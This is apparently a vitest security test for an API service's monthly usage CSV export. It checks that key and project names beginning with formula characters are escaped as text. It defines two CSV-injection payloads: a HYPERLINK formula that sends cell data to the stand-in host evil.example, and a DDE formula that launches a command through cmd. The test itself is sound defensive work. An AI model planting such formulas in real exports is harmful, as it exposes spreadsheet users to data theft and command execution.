import { USAGE_EXPORT_PATH } from "@prism/contract";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { post } from "../../../test/accounts";
import {
  fundedAccount,
  imageModelEnv,
  removeBackground,
  startImageModelServer,
} from "../../../test/key-fixtures";
import type { LocalServer } from "../../../test/local-http-server";
import { createTestApp, SAME_ORIGIN, type TestApp } from "../../../test/test-app";
import { SESSION_COOKIE } from "../auth/session-cookie";

/**
 * The usage exports attacked through HTTP: a member who may name a key or a project must not plant a
 * formula that runs in the owner's spreadsheet when the month's calls are opened there.
 */

const KEY_FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")';
const PROJECT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";

describe("usage exports", () => {
  let model: LocalServer;
  let testApp: TestApp;

  beforeAll(async () => {
    model = await startImageModelServer();
    testApp = await createTestApp(imageModelEnv(model));
  });

  afterAll(async () => {
    await testApp?.close();
    await model?.close();
  });

  it("writes names that start a formula as text in the calls CSV", async () => {
    const account = await fundedAccount(testApp, 1_000_000n);
    const renamed = await post(
      testApp,
      "/v1/users/projects/update",
      { projectId: account.projectId, name: PROJECT_FORMULA },
      { session: account.owner.session },
    );
    expect(renamed.statusCode, renamed.body).toBe(200);
    const key = await account.createKey(undefined, KEY_FORMULA);
    expect((await removeBackground(testApp, key.content)).statusCode).toBe(200);

    const month = new Date().toISOString().slice(0, 7);
    const response = await testApp.app.inject({
      method: "GET",
      url: `${USAGE_EXPORT_PATH}?month=${month}&projectIds=${account.projectId}`,
      headers: SAME_ORIGIN,
      cookies: { [SESSION_COOKIE]: account.owner.session },
    });
    expect(response.statusCode, response.body).toBe(200);
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]?.["API key"]).toBe(`'${KEY_FORMULA}`);
    expect(rows[0]?.Project).toBe(`'${PROJECT_FORMULA}`);
    for (const cell of Object.values(rows[0] ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
